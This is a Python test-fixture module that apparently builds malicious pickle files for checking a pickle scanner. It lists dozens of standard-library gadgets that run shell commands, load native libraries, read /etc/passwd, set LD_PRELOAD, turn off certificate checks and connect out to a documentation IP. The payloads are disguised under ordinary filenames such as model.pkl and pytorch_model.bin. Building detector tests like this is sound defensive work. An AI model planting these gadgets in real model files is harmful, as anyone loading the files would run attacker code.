"""Attack shapes: pickles that call the standard library's lesser-known doors to code, shells, files and the network."""

from __future__ import annotations

from judge_kit import Folder, build, call, instance, mapping, name, opcodes, reduce, text, whole
from second_attacks_base import ARGV, CODE, ECHO, PY, URL, bad, method, one

CALLS = {
    "testcapi-subinterp": ("_testcapi", "run_in_subinterp", PY),
    "imp-load-source": ("imp", "load_source", "payload", "payload.py"),
    "fork-exec": (
        "_posixsubprocess",
        "fork_exec",
        *(ARGV, [b"/bin/echo"], True, (), None, None, -1, -1, -1, -1, -1, -1, 3, 4),
        *(True, False, -1, None, None, None, -1, None, True),
    ),
    "posix-spawn": ("posix", "posix_spawn", "/bin/echo", ARGV, {}),
    "startfile": ("os", "startfile", "payload.exe"),
    "subprocess-check-call": ("subprocess", "check_call", ARGV),
    "rename-over": ("os", "rename", "model.pkl", "/tmp/assay-second"),
    "symbolic-link": ("os", "symlink", "/etc/passwd", "weights.bin"),
    "truncate": ("os", "truncate", "/tmp/assay-second", 0),
    "putenv-preload": ("os", "putenv", "LD_PRELOAD", "./libpayload.so"),
    "kill-parent": ("os", "kill", 1, 9),
    "hard-exit": ("os", "_exit", 0),
    "spawn-prepare": ("multiprocessing.spawn", "prepare", {"init_main_from_path": "payload.py"}),
    "spawn-fixup": ("multiprocessing.spawn", "_fixup_main_from_path", "payload.py"),
    "pydoc-importfile": ("pydoc", "importfile", "payload.py"),
    "pydoc-resolve": ("pydoc", "resolve", "payload.Model"),
    "run-module": ("runpy", "run_module", "payload"),
    "import-hook": ("importlib._bootstrap", "_gcd_import", "payload"),
    "builtin-import": ("builtins", "__import__", "payload"),
    "unittest-main": ("unittest.main", "main", "payload"),
    "doctest-testfile": ("doctest", "testfile", "payload.txt", False),
    "compileall": ("compileall", "compile_dir", "/tmp/assay-second"),
    "py-compile": ("py_compile", "compile", "payload.py", "/tmp/assay-second.pyc"),
    "venv-create": ("venv", "create", "/tmp/assay-second"),
    "copyfile": ("shutil", "copyfile", "payload.py", "/tmp/assay-second"),
    "move": ("shutil", "move", "payload.py", "/tmp/assay-second"),
    "unpack-archive": ("shutil", "unpack_archive", "payload.tar", "/tmp/assay-second"),
    "fileinput-inplace": ("fileinput", "FileInput", "README.md", True),
    "shelve-open": ("shelve", "open", "/tmp/assay-second"),
    "telnet": ("telnetlib", "Telnet", "198.51.100.7", 9),
    "pop3": ("poplib", "POP3", "198.51.100.7", 9),
    "nntp": ("nntplib", "NNTP", "198.51.100.7"),
    "imap": ("imaplib", "IMAP4", "198.51.100.7", 9),
    "server-certificate": ("ssl", "get_server_certificate", ("198.51.100.7", 9)),
    "name-lookup": ("socket", "gethostbyname", "assay-second.invalid"),
    "connection-client": ("multiprocessing.connection", "Client", ("198.51.100.7", 9)),
    "syslog-handler": ("logging.handlers", "SysLogHandler", ("198.51.100.7", 9)),
    "http-server": ("http.server", "test"),
    "sax-parse-remote": ("xml.sax", "parse", URL, None),
    "find-library": ("ctypes.util", "find_library", "payload; " + ECHO),
    "pydll": ("ctypes", "PyDLL", "./libpayload.so"),
    "read-memory": ("ctypes", "string_at", 0),
    "run-simple-string": ("ctypes", "pythonapi.PyRun_SimpleString", PY.encode()),
    "path-append": ("sys", "path.append", "/tmp/assay-second"),
    "loader-set-data": ("json", "__loader__.set_data", "/tmp/assay-second.py", b"print('assay-second')"),
    "loader-get-data": ("json", "__spec__.loader.get_data", "/etc/passwd"),
    "setuptools-sandbox": ("setuptools.sandbox", "run_setup", "setup.py", ["install"]),
    "resources-run-script": ("pkg_resources", "run_script", "payload", "payload.py"),
    "pip-internal": ("pip._internal.cli.main", "main", ["install", "./payload"]),
    "pip-subprocess": ("pip._internal.utils.subprocess", "call_subprocess", ARGV),
    "logging-listen": ("logging.config", "listen", 9030),
    "logging-file": ("logging.config", "fileConfig", "logging.ini"),
    "python2-urlopen": ("urllib", "urlopen", URL),
    "python2-http-server": ("SimpleHTTPServer", "test"),
    "python2-anydbm": ("anydbm", "open", "/tmp/assay-second", "n"),
    "readline-history": ("readline", "write_history_file", "/tmp/assay-second"),
    "register-at-fork-dotted": ("sys", "modules.__setitem__", "json", 1),
    "bytecode-cache": ("zipfile", "PyZipFile", "/tmp/assay-second", "w"),
    "profile-runctx": ("profile", "runctx", PY, {}, {}),
    "runeval": ("pdb", "runeval", CODE),
    "interact-command": ("code", "interact"),
}
"""Each value is (module, attribute, arguments…)."""


def instance_calls() -> dict[str, bytes]:
    """Methods called on instances that the pickle makes first."""
    template = call("pipes", "Template")
    tcl = call("_tkinter", "create", None, "a", "Tk", False, 0, False, False, None)
    interpreter = call("code", "InteractiveInterpreter")
    loader = call("importlib._bootstrap_external", "SourceFileLoader", "payload", "payload.py")
    entry = call("importlib.metadata", "EntryPoint", "m", "payload:run", "g")
    reference = call("typing", "ForwardRef", CODE)
    connection = call("http.client", "HTTPConnection", "198.51.100.7", 9)
    namespace = build(instance("types", "SimpleNamespace"), mapping(__annotations__=mapping(a=text(CODE))))
    made = call("dataclasses", "_create_fn", "load", [], [f"return {CODE}"])
    path, capwords = text("0.__globals__[_re].enum.sys.modules[posix].system"), one(name("string", "capwords"))
    field = reduce(name("string", "Formatter.get_field"), call("string", "Formatter"), path, capwords, b"}")
    sub = call("_interpreters", "create")
    return {
        "pipes-template": method(("pipes", "Template"), "append", template, ECHO, "--"),
        "tcl-exec": method(("_tkinter", "TkappType"), "eval", tcl, "exec echo assay-second"),
        "interpreter-source": method(("code", "InteractiveInterpreter"), "runsource", interpreter, PY),
        "loader-load-module": method(("importlib._bootstrap_external", "SourceFileLoader"), "load_module", loader),
        "entry-point-made": method(("importlib.metadata", "EntryPoint"), "load", entry),
        "forward-reference-made": method(("typing", "ForwardRef"), "_evaluate", reference, {}, {}, frozenset()),
        "type-hints": reduce(name("typing", "get_type_hints"), namespace),
        "http-request": method(("http.client", "HTTPConnection"), "request", connection, "POST", "/assay-second"),
        "dataclass-function": reduce(made),
        "formatter-field": reduce(reduce(call("operator", "itemgetter", 0), field), text(ECHO)),
        "interpreters-create": reduce(name("_interpreters", "run_string"), sub, text(PY)),
        "mock-dotted": reduce(call("unittest.mock", "pkgutil.resolve_name", "posix:system"), text(ECHO)),
        "sqlite-extension": method(
            ("sqlite3", "Connection"), "load_extension", call("sqlite3", "connect", ":memory:"), "./libpayload.so"
        ),
        "tar-extract-made": method(
            ("tarfile", "TarFile"), "extractall", call("tarfile", "open", "payload.tar"), "/tmp"
        ),
        "snapshot-load": call("tracemalloc", "Snapshot.load", "inner.pkl"),
        "generic-browser": method(("webbrowser", "GenericBrowser"), "open", call("webbrowser", "GenericBrowser", ARGV)),
        "threading-timer": method(
            ("threading", "Timer"),
            "start",
            reduce(name("threading", "Timer"), opcodes(1, 3), name("os", "abort")),
        ),
        "manager-start": method(
            ("multiprocessing.managers", "BaseManager"),
            "connect",
            call("multiprocessing.managers", "BaseManager", ("198.51.100.7", 9), b"k"),
        ),
        "shelf-item": method(("shelve", "Shelf"), "__getitem__", call("shelve", "open", "inner"), "k"),
    }


def imports_alone() -> dict[str, bytes]:
    """Modules whose import alone does something, or an import that the folder's own code answers."""
    return {
        "import-unittest-main": name("unittest.__main__", "main"),
        "import-idle": name("idlelib.idle", "idlelib"),
        "import-autotest": name("test.autotest", "main"),
        "import-venv-main": name("venv.__main__", "rc"),
        "import-lib2to3-main": name("lib2to3.__main__", "main"),
    }


def protocol_of(key: str, code: bytes, number: int) -> int:
    """Dotted names need protocol 4, names of Python 2 need one below 3."""
    if key.startswith("python2"):
        return number % 2 + 1
    return 4 + number % 2 if b"\x93" in code else 2 + number % 4


def shapes() -> dict[str, Folder]:
    """The pickles of this part, in several protocols and under ordinary names."""
    made: dict[str, Folder] = {}
    endings = ("model.pkl", "model.joblib", "pytorch_model.bin", "scaler.pickle", "encoder.dat")
    local = f"import os\n\nos.system({ECHO!r})\n".encode()
    table = {k: call(v[0], v[1], *v[2:]) for k, v in CALLS.items()}
    table |= instance_calls() | imports_alone()
    for number, (key, code) in enumerate(sorted(table.items())):
        folder = {endings[number % 5]: whole(code, protocol_of(key, code, number))}
        made[f"pickle-gadget--{key}"] = folder | ({"payload.py": local} if b"payload" in code else {})
    made["pickle-gadget--import-unittest-main"]["test_model.py"] = local
    made["pickle-gadget--snapshot-load"]["inner.pkl"] = bad()
    chunk = reduce(
        name("concurrent.futures.process", "_process_chunk"), name("posix", "popen"), b"](" + one(text(ECHO)) + b"e"
    )
    made["pickle-gadget--process-chunk"] = {"model.pkl": whole(chunk)}
    made["pickle-gadget--class-in-folder"] = {
        "churn.py": local + b"\n\nclass Churn:\n    pass\n",
        "model.pkl": whole(build(instance("churn", "Churn"), opcodes({"threshold": 0.5}, 3))),
    }
    unchecked = mapping(_create_default_https_context=name("ssl", "_create_unverified_context"))
    made["pickle-gadget--certificates-off"] = {"model.pkl": whole(build(name("http.client", "ssl"), unchecked))}
    made["pickle-gadget--file-beside"] = {
        "model.pkl": whole(reduce(name("pickle", "load"), call("io", "open", "cache.bin", "rb"))),
        "cache.bin": bad(2),
    }
    return made
